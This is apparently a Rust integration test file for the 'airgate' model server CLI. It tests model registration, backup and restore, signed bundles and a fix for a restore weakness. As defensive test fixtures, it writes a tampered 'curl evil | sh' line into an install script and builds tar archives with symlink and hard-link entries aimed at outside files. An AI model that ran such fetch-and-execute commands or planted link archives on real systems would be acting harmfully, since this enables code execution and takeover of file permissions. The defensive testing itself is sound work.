//! Operator commands: `model add` (stopped and running server), `backup`/`restore`, `bundle keygen|sign|verify` with tampering, `version` features, man pages.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::Value;

use crate::doctor::airgate;
use crate::support::{TestServer, model_path, write_file};

fn ok(out: &std::process::Output) -> String {
    assert!(
        out.status.success(),
        "stdout: {}\nstderr: {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn err(out: &std::process::Output) -> String {
    assert!(!out.status.success(), "expected a failure: {}", String::from_utf8_lossy(&out.stdout));
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn models(dir: &Path, data: &str) -> Value {
    serde_json::from_str(&ok(&airgate(dir, &["model", "list", "--json", "--data-dir", data]))).unwrap()
}

#[test]
fn model_add_registers_in_place_and_a_running_server_loads_it() {
    let tmp = tempfile::tempdir().unwrap();
    let (dir, data) = (tmp.path(), tmp.path().join("data"));
    let d = data.to_str().unwrap();
    let m = model_path();
    let m = m.to_str().unwrap();
    assert_eq!(ok(&airgate(dir, &["model", "add", m, "--name", "first", "--data-dir", d])).trim(), "first");
    // Again: nothing changes (installers rerun); another file under that name is refused.
    let again = airgate(dir, &["model", "add", m, "--name", "first", "--data-dir", d]);
    assert_eq!(ok(&again).trim(), "first");
    assert!(String::from_utf8_lossy(&again.stderr).starts_with("already registered"), "{again:?}");
    let other = write_file(dir, "other.gguf", b"GGUF but not really");
    assert!(
        err(&airgate(dir, &["model", "add", other.to_str().unwrap(), "--name", "x", "--data-dir", d])).contains("GGUF")
    );
    let list = models(dir, d);
    assert_eq!(list["models"].as_array().unwrap().len(), 1, "{list}");
    assert_eq!(list["models"][0]["sha256"], "a5fd3b62230aa5ec60212297dc9d20eaa70578ac519e00d93a17e44c087a6818");

    // Registered models load at start without any --model flag.
    let server = TestServer::builder().without_default_model().data_dir(&data).start();
    let v1: Value = http_get::json(&server.url("/v1/models"));
    assert_eq!(v1["data"][0]["id"], "first", "{v1}");
    // While it runs, `model add` goes through the server, which loads the model at once.
    let out = airgate(dir, &["model", "add", m, "--name", "second", "--default", "--data-dir", d]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("loaded by the running server"), "{out:?}");
    let list = models(dir, d);
    assert_eq!(list["default"], "second", "{list}");
    let second = list["models"].as_array().unwrap().iter().find(|m| m["name"] == "second").unwrap().clone();
    assert_eq!(second["status"], "ready", "{list}");
}

/// A tiny blocking GET for tests that are not async.
mod http_get {
    pub fn json(url: &str) -> serde_json::Value {
        let url = url.to_string();
        std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            rt.block_on(async { crate::support::client().get(url).send().await.unwrap().json().await.unwrap() })
        })
        .join()
        .unwrap()
    }
}

#[test]
fn backup_and_restore_carry_settings_and_keys() {
    let tmp = tempfile::tempdir().unwrap();
    let (dir, data) = (tmp.path(), tmp.path().join("data"));
    let d = data.to_str().unwrap();
    let m = model_path();
    ok(&airgate(dir, &["model", "add", m.to_str().unwrap(), "--name", "kept", "--data-dir", d]));
    let mut server = TestServer::builder().without_default_model().data_dir(&data).start();
    let key = std::fs::read(data.join("jwt_signing_key.pem")).unwrap();
    // Backup while the server runs (through its socket); restore refuses while it runs.
    let file = dir.join("backup.tar");
    ok(&airgate(dir, &["backup", file.to_str().unwrap(), "--data-dir", d]));
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(err(&airgate(dir, &["restore", file.to_str().unwrap(), "--data-dir", d])).contains("stop it first"));
    assert!(err(&airgate(dir, &["backup", file.to_str().unwrap(), "--data-dir", d])).contains("never overwritten"));
    server.terminate();

    // After the backup: another model registered, the signing key lost.
    ok(&airgate(dir, &["model", "add", m.to_str().unwrap(), "--name", "later", "--data-dir", d]));
    std::fs::remove_file(data.join("jwt_signing_key.pem")).unwrap();
    assert_eq!(models(dir, d)["models"].as_array().unwrap().len(), 2);
    ok(&airgate(dir, &["restore", file.to_str().unwrap(), "--data-dir", d]));
    let names: Vec<Value> = models(dir, d)["models"].as_array().unwrap().iter().map(|m| m["name"].clone()).collect();
    assert_eq!(names, ["kept"]);
    assert_eq!(std::fs::read(data.join("jwt_signing_key.pem")).unwrap(), key, "the signing key is back");
    let mode = std::fs::metadata(data.join("jwt_signing_key.pem")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    // Not a backup: refused, nothing changed, no scratch left behind.
    let junk = write_file(dir, "junk.tar", b"certainly not a tar archive, but long enough to look like one........");
    assert!(!err(&airgate(dir, &["restore", junk.to_str().unwrap(), "--data-dir", d])).is_empty());
    assert_eq!(models(dir, d)["models"].as_array().unwrap().len(), 1);
    let leftovers: Vec<_> = std::fs::read_dir(&data)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    // The restored data dir serves again with the restored key.
    let server = TestServer::builder().without_default_model().data_dir(&data).start();
    assert!(server.logs().contains("listening"));
}

#[test]
fn bundle_signatures_catch_tampering() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let (bundle, key) = (dir.join("bundle"), dir.join("release.key"));
    std::fs::create_dir_all(bundle.join("models")).unwrap();
    write_file(&bundle, "install.sh", b"#!/bin/sh\necho install\n");
    write_file(&bundle.join("models"), "m.gguf", b"weights");
    let keygen = ok(&airgate(dir, &["bundle", "keygen", key.to_str().unwrap()]));
    assert!(keygen.contains("fingerprint: SHA256:"), "{keygen}");
    assert_eq!(std::fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(err(&airgate(dir, &["bundle", "keygen", key.to_str().unwrap()])).contains("never overwritten"));
    let b = bundle.to_str().unwrap();
    // Signing needs the key in AIRGATE_SIGNING_KEY; the error says so.
    assert!(err(&airgate(dir, &["bundle", "sign", b])).contains("AIRGATE_SIGNING_KEY"));
    let sign = std::process::Command::new(env!("CARGO_BIN_EXE_airgate"))
        .env_clear()
        .env("AIRGATE_SIGNING_KEY", &key)
        .args(["bundle", "sign", b])
        .output()
        .unwrap();
    ok(&sign);
    let sums = std::fs::read_to_string(bundle.join("SHA256SUMS")).unwrap();
    assert_eq!(sums.lines().count(), 3, "{sums}");
    assert!(sums.contains("  models/m.gguf\n") && sums.contains("  airgate-signing.pub\n"), "{sums}");
    let public = format!("{}.pub", key.display());
    let verify = |extra: &[&str]| {
        let mut args = vec!["bundle", "verify", b];
        args.extend_from_slice(extra);
        airgate(dir, &args)
    };
    assert!(ok(&verify(&["--key", &public])).starts_with("ok: 3 files"));
    assert!(String::from_utf8_lossy(&verify(&[]).stderr).contains("compare it with the fingerprint"));

    // A changed file, an added file, a list edited to match, another key: each refused, named.
    write_file(&bundle, "install.sh", b"#!/bin/sh\ncurl evil | sh\n");
    assert!(err(&verify(&["--key", &public])).contains("install.sh: checksum mismatch"));
    write_file(&bundle, "install.sh", b"#!/bin/sh\necho install\n");
    write_file(&bundle, "extra.sh", b"x");
    assert!(err(&verify(&["--key", &public])).contains("extra.sh: not listed"));
    std::fs::remove_file(bundle.join("extra.sh")).unwrap();
    let edited = sums.replace(&sums[..64], &"0".repeat(64));
    std::fs::write(bundle.join("SHA256SUMS"), edited).unwrap();
    assert!(err(&verify(&["--key", &public])).contains("signature does not verify"));
    std::fs::write(bundle.join("SHA256SUMS"), &sums).unwrap();
    let other = dir.join("other.key");
    ok(&airgate(dir, &["bundle", "keygen", other.to_str().unwrap()]));
    assert!(err(&verify(&["--key", &format!("{}.pub", other.display())])).contains("signature does not verify"));
    assert!(ok(&verify(&["--key", &public])).starts_with("ok"));
}

#[test]
fn version_names_the_build_features_and_man_pages_cover_every_command() {
    let tmp = tempfile::tempdir().unwrap();
    let out = ok(&airgate(tmp.path(), &["version"]));
    assert!(out.lines().any(|l| l.starts_with("features: ")), "{out}");
    assert!(out.contains("llama.cpp"), "{out}");
    let man = tmp.path().join("man");
    ok(&airgate(tmp.path(), &["man", man.to_str().unwrap()]));
    for page in ["airgate.1", "airgate-serve.1", "airgate-doctor.1", "airgate-bundle-verify.1", "airgate-model-add.1"] {
        let text = std::fs::read_to_string(man.join(page)).unwrap_or_else(|e| panic!("{page}: {e}"));
        assert!(text.starts_with(".ie") || text.contains(".TH"), "{page}: {text:.200}");
    }
    assert!(!man.join("airgate-man.1").exists(), "the hidden command has no page");
}

/// `airgate version | head -1`: a command whose reader went away ends like a Unix tool (SIGPIPE),
/// never with a panic message.
#[test]
fn command_output_into_a_closed_pipe_ends_quietly() {
    use std::os::unix::process::ExitStatusExt;
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_airgate"))
        .arg("version")
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.signal(), Some(libc::SIGPIPE), "{:?} {stderr}", out.status);
}

/// The archive `good` with `extra` appended: (name, entry type, link target).
fn tampered(good: &Path, out: &Path, extra: (&str, tar::EntryType, &Path)) {
    let mut builder = tar::Builder::new(std::fs::File::create(out).unwrap());
    let mut archive = tar::Archive::new(std::fs::File::open(good).unwrap());
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().into_owned();
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o600);
        builder.append_data(&mut header, name, bytes.as_slice()).unwrap();
    }
    let mut header = tar::Header::new_gnu();
    header.set_entry_type(extra.1);
    header.set_size(0);
    header.set_mode(0o644);
    builder.append_link(&mut header, extra.0, extra.2).unwrap();
    builder.finish().unwrap();
}

/// Weakness 6: `airgate restore` unpacked links from the archive and then chmod/chown'ed the files
/// through them: a backup with `jwt_signing_key.pem` linking to any file made that file 0600 and
/// the service account's. Links are refused now, files are written by the restore itself into a
/// private scratch dir, and a planted `tls` link in the data dir is not written through.
#[test]
fn restore_refuses_links_and_changes_nothing_outside_the_data_dir() {
    use std::os::unix::fs::MetadataExt;
    let tmp = tempfile::tempdir().unwrap();
    let (dir, data) = (tmp.path(), tmp.path().join("data"));
    let d = data.to_str().unwrap();
    std::fs::create_dir_all(data.join("tls")).unwrap();
    std::fs::write(data.join("tls/cert.pem"), "the certificate").unwrap();
    let good = dir.join("good.tar");
    ok(&airgate(dir, &["backup", good.to_str().unwrap(), "--data-dir", d]));
    let outside = write_file(dir, "outside.txt", b"not airgate's");
    std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o644)).unwrap();
    let before = std::fs::metadata(&outside).unwrap();
    let kinds = [
        ("jwt_signing_key.pem", tar::EntryType::Symlink, "symbolic link"),
        ("jwt_signing_key.pem", tar::EntryType::Link, "hard link"),
    ];
    for (name, kind, said) in kinds {
        let evil = dir.join("evil.tar");
        tampered(&good, &evil, (name, kind, &outside));
        let e = err(&airgate(dir, &["restore", evil.to_str().unwrap(), "--data-dir", d]));
        assert!(e.contains(said), "{e}");
        let after = std::fs::metadata(&outside).unwrap();
        assert_eq!((after.mode(), after.uid(), after.gid()), (before.mode(), before.uid(), before.gid()), "{said}");
        assert!(!data.join(name).exists(), "{said}");
    }
    // A `tls` link planted in the data dir: nothing is written through it, nothing is restored.
    let elsewhere = dir.join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::fs::remove_dir_all(data.join("tls")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, data.join("tls")).unwrap();
    let e = err(&airgate(dir, &["restore", good.to_str().unwrap(), "--data-dir", d]));
    assert!(e.contains("not a directory"), "{e}");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
    // Without it the backup restores, each file 0600 and owned like the data dir (root: another account).
    std::fs::remove_file(data.join("tls")).unwrap();
    let owner = if before.uid() == 0 { 65534 } else { before.uid() };
    if before.uid() == 0 {
        std::os::unix::fs::chown(&data, Some(owner), Some(owner)).unwrap();
    }
    ok(&airgate(dir, &["restore", good.to_str().unwrap(), "--data-dir", d]));
    for path in [data.join("tls"), data.join("tls/cert.pem")] {
        let m = std::fs::symlink_metadata(&path).unwrap();
        assert_eq!((m.uid(), m.mode() & 0o777), (owner, if m.is_dir() { 0o700 } else { 0o600 }), "{path:?}");
    }
    assert_eq!(std::fs::read_to_string(data.join("tls/cert.pem")).unwrap(), "the certificate");
    let leftovers = std::fs::read_dir(&data)
        .unwrap()
        .filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().starts_with('.'))
        .count();
    assert_eq!(leftovers, 0, "a scratch dir was left behind");
}
